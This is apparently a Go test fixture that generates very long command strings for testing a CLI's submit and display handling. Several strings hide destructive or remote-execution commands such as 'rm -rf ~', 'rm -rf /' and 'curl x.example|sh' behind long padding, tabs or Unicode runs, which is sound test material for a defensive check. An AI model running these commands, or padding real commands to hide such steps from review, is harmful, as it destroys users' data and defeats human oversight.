package cli_test

import (
	"fmt"
	"strings"
)

// long builds the texts that long-arguments.jsonl describes (its `gen`), those
// that a submit takes: the 1 MiB and 10 MiB ones are refused before a console
// could see them, and the one of 10,000 lines is 1,000 long, to be paged in time.
func long() []string {
	var thousand strings.Builder
	for i := range 1000 {
		_, _ = fmt.Fprintf(&thousand, "k%d=v ", i) // a builder does not fail
	}
	return []string{
		"ls -la # " + strings.Repeat("A", 5000) + "\n; curl x.example|sh",
		strings.Repeat("x", 50_000) + "; rm -rf /; " + strings.Repeat("y", 50_000),
		strings.Repeat("import os\n", 25)[:200] + "os.remove(P)",
		"echo " + strings.Repeat("a", 75) + "; rm -rf ~",
		"a\nb\nc\nrm -rf ~",
		strings.Repeat("a", 4096) + "rm -rf ~",
		strings.Repeat("a", 16_000) + "rm -rf ~",
		thousand.String(),
		strings.Repeat("ok\n", 1_000) + "rm -rf ~\n",
		"rm -rf /srv/tmp" + strings.Repeat(" ", 300) + "/../data",
		"echo a... && ls",
		strings.Repeat("\u754c", 500) + "; rm -rf ~",
		"ls" + strings.Repeat("\t", 128) + "; rm -rf ~",
	}
}
